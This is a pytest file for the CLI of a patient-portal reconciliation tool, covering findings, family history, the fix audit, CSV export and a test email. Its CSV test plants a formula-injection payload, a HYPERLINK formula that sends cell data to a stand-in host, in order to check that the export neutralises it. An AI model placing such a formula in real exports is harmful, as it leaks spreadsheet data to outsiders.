"""On-call's missing commands (issue 16): findings for one family, a family's timeline,
the audit of portal changes, a spreadsheet export safe against formula injection, and a
test message through the configured channel.

Real engine runs fold a family's reads into a real state database (SQLite and
PostgreSQL) with the clock frozen at each step; the CLI runs in-process through
`worker.cli.main.main`; the test message goes to a real SMTP server (aiosmtpd)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest

from config.settings import load_settings
from tests.cli.test_statecli import finding, run_cli, use_env
from tests.factory import MemoryPortal, clean_family, contact, fc, patient
from tests.procs import stop_smtp
from tests.scan.test_lifecycle import T0, scan_at
from worker.model.records import Authority
from worker.scan.engine import Deps
from worker.scan.wiring import state_sessions
from worker.state.db import migrate


@pytest.fixture(params=["sqlite", "postgresql"])
def settings(request: pytest.FixtureRequest, make_settings: Any) -> Iterator[Any]:
    if request.param == "sqlite":
        yield make_settings()
        return
    url: str = request.getfixturevalue("pg_database")
    migrate(url)
    yield make_settings(state_db_url=url, practice=f"audit-{uuid.uuid4().hex[:8]}")
    # Close the cached engine's pooled connections now (not when the cache drops it).
    state_sessions(load_settings(state_db_url=url)).kw["bind"].dispose()


def family_day(settings: Any) -> Deps:
    """P1's mother C1 has lost her portal link (a refresh restores it); on P2's chart C7
    is a father with an email and no authority: an alert only. First read at T0,
    confirmed and fixed at T0+15m, verified at T0+35m."""
    records = [r for r in clean_family() if type(r).__name__ != "CaregiverLink"]
    records += [patient("P2"), contact("C7"),
                fc("P2", "C7", role="Father", authority=Authority.NONE)]
    portal = MemoryPortal(records, {"U1": ["U2"]})
    deps = Deps(settings, state_sessions(settings), portal, portal, portal_writable=True)
    for minutes in (0, 15, 35):
        scan_at(deps, T0 + timedelta(minutes=minutes))
    return deps


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Any:
    def run(*args: str) -> tuple[int, str, str]:
        return run_cli(monkeypatch, capsys, *args)
    return run


def test_findings_for_one_patient_or_contact(settings: Any, monkeypatch: pytest.MonkeyPatch,
                                             cli: Any) -> None:
    family_day(settings)
    with state_sessions(settings).begin() as s:  # another family's problem, a duplicate
        for row in (finding("fp-other", "patient_email_present", "open", patient_id="P9"),
                    finding("fp-dup", "contact_duplicate", "open", contact_id="C5",
                            contact_ids=["C5", "C7"])):
            row.practice = settings.practice
            s.add(row)
    use_env(monkeypatch, settings)
    code, out, _ = cli("findings", "--patient", "P1", "--state", "all")
    assert code == 0
    assert "caregiver_link_missing" in out and "patient=P1" in out
    assert "authority_invalid" not in out  # P2's
    assert "fp-other" not in out and "fp-dup" not in out
    assert out.splitlines()[-1] == "1 finding(s) about patient P1"
    code, out, _ = cli("findings", "--contact", "C7", "--json")
    rows = [json.loads(line) for line in out.splitlines()]
    assert {r["check"] for r in rows} == {"authority_invalid", "contact_duplicate"}
    code, _, err = cli("findings", "--patient", "P1", "--contact", "C1")
    assert code == 2 and "choose one of --patient ID, --contact ID" in err


def test_history_is_the_familys_timeline_with_runs_and_reasons(
    settings: Any, monkeypatch: pytest.MonkeyPatch, cli: Any
) -> None:
    family_day(settings)
    use_env(monkeypatch, settings)
    code, out, _ = cli("history", "P1")
    assert code == 0, out
    link = [ln for ln in out.splitlines() if "caregiver_link_missing" in ln]
    changes = [ln.split("caregiver_link_missing")[1].split()[0:3] for ln in link]
    assert [c[0] for c in changes][:1] == ["·"]  # found first, from nothing
    assert any("→ held" in ln for ln in link) and any("→ resolved" in ln for ln in link)
    assert any("fix refresh_source (action" in ln and "applied" in ln for ln in link)
    assert "verified after the hold: fixed" in out
    assert "authority_invalid" not in out  # another family's
    assert "about P1 and its family" in out.splitlines()[-1]
    code, out, _ = cli("history", "U1", "--json")
    entries = [json.loads(line) for line in out.splitlines()]
    assert entries and all(e["check"] == "caregiver_link_missing" for e in entries)
    times = [e["at"] for e in entries]
    assert times == sorted(times) and entries[0]["run_id"] is not None
    assert "@" not in out
    code, _, err = cli("history", "P404")
    assert code == 2 and "nothing recorded about P404" in err


def test_fixes_applied_is_the_audit_of_portal_changes(
    settings: Any, monkeypatch: pytest.MonkeyPatch, cli: Any
) -> None:
    family_day(settings)
    use_env(monkeypatch, settings)
    code, out, _ = cli("fixes", "applied", "--since", (T0 - timedelta(days=1)).isoformat())
    assert code == 0, out
    row = next(ln for ln in out.splitlines() if "refresh_source" in ln)
    assert "applied" in row and "caregiver_link_missing" in row and "user=U1" in row
    assert "resolved" in row  # what became of the finding
    assert out.splitlines()[-1].endswith(": applied 1")
    code, out, _ = cli("fixes", "applied", "--since", (T0 - timedelta(days=1)).isoformat(),
                       "--json")
    (fix,) = [json.loads(line) for line in out.splitlines()]
    assert fix["outcome"] == "applied" and fix["fix"] == "refresh_source"
    assert fix["at"] == (T0 + timedelta(minutes=15)).isoformat()
    code, out, _ = cli("fixes", "applied", "--since", (T0 + timedelta(hours=1)).isoformat())
    assert out.startswith("no portal changes since")
    code, _, err = cli("fixes", "applied", "--since", "last week")
    assert code == 2 and "--since:" in err


def test_findings_csv_quotes_cells_a_spreadsheet_would_run(
    make_settings: Any, monkeypatch: pytest.MonkeyPatch, cli: Any
) -> None:
    settings = make_settings()
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    with state_sessions(settings).begin() as s:
        s.add(finding("fp-evil", "invalid_record", "open", patient_id=evil))
        plus = finding("fp-plus", "invalid_record", "open", contact_id="+1-555")
        plus.detail = "-2+3 cannot be read"
        s.add(plus)
        s.add(finding("fp-at", "portal_orphan_user", "open", portal_user_id="@SUM(1)"))
        s.add(finding("fp-fine", "patient_email_present", "open", patient_id="P1"))
    use_env(monkeypatch, settings)
    code, out, _ = cli("findings", "--csv")
    assert code == 0
    rows = {r["fingerprint"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["fp-evil"]["patient_id"] == "'" + evil
    assert rows["fp-plus"]["contact_id"] == "'+1-555"
    assert rows["fp-plus"]["detail"] == "'-2+3 cannot be read"
    assert rows["fp-at"]["portal_user_id"] == "'@SUM(1)"
    assert rows["fp-fine"]["patient_id"] == "P1"  # ordinary cells untouched
    cells = [c for r in csv.reader(io.StringIO(out)) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


@pytest.fixture
def smtp_sink() -> Iterator[Any]:
    """A real SMTP server (aiosmtpd), as the digest tests use; `stop()` takes it down."""
    from aiosmtpd.controller import Controller

    from tests.digest.test_digest import SmtpSink, _free_port

    sink = SmtpSink(port=_free_port())
    controller = Controller(sink, hostname="127.0.0.1", port=sink.port)
    controller.start()
    sink.stop = lambda: stop_smtp(controller)  # type: ignore[attr-defined]
    try:
        yield sink
    finally:
        with contextlib.suppress(Exception):
            stop_smtp(controller)


def test_digest_test_sends_one_message_to_a_configured_recipient(
    make_settings: Any, monkeypatch: pytest.MonkeyPatch, cli: Any, smtp_sink: Any
) -> None:
    settings = make_settings(digest_recipients={"front_desk": ["frontdesk@example.org"]},
                             smtp_port=smtp_sink.port, smtp_sender="oprecon@example.org")
    use_env(monkeypatch, settings)
    monkeypatch.setenv("OPRECON_SMTP_PORT", str(smtp_sink.port))
    monkeypatch.setenv("OPRECON_SMTP_SENDER", "oprecon@example.org")
    monkeypatch.setenv("OPRECON_DIGEST_RECIPIENTS", '{"front_desk": ["frontdesk@example.org"]}')
    code, out, _ = cli("digest", "--test", "FrontDesk@example.org")
    assert code == 0, out
    assert out.strip() == (f"test message sent to front_desk #1 through SMTP 127.0.0.1:"
                           f"{smtp_sink.port}")
    [(rcpts, msg)] = smtp_sink.messages
    assert rcpts == ["frontdesk@example.org"]
    assert msg["Subject"] == "[oprecon] test message for test"
    code, _, err = cli("digest", "--test", "someone@else.example")
    assert code == 2 and "not a configured digest recipient" in err
    assert len(smtp_sink.messages) == 1
    smtp_sink.stop()
    code, _, err = cli("digest", "--test", "frontdesk@example.org")
    assert code == 2 and "test message to front_desk #1 not sent" in err
